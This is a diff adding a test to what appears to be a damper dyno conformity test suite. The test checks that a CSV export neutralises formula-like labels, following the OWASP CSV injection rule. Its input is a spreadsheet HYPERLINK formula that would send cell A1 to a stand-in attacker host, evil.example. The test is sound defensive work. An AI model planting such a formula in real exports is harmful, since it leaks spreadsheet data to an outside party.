@@ -370,6 +370,18 @@ describe('dyno conformity', () => {
     expect(csv.text).toContain('PF-0203,compression,0.3,800,720,880,719.9,-80.1,-10.01,fail,below');
   });
 
+  it('writes a damper label that looks like a formula as inert text in the check CSV (OWASP CSV injection rule)', async () => {
+    const sheet = await sheetWithTargets();
+    const label = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+    const res = await request(t.url).post(path(`/${sheet.id}/checks`)).set(await sessionHeaders(t, people.engineer.id)).field('label', label).attach('file', Buffer.from(onEdges), 'a.csv');
+    expect(res.status, JSON.stringify(res.body)).toBe(201);
+    const check = ConformityRecordDetail.parse(res.body);
+    const csv = await call('get', path(`/${sheet.id}/checks/${check.id}/csv`), people.viewer);
+    const lines = csv.text.split('\n').filter((l) => l.length > 0);
+    expect(lines.some((l) => l.startsWith('='))).toBe(false);
+    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",compression,0.05,150,130,170,170,20,13.33,pass,within`);
+  });
+
   it('reads a speed between two measured points on the straight line between them', async () => {
     const sheet = await sheetWithTargets();
     // 0.1 m/s between (0.08, 300) and (0.12, 500) → 400 N exactly on target.
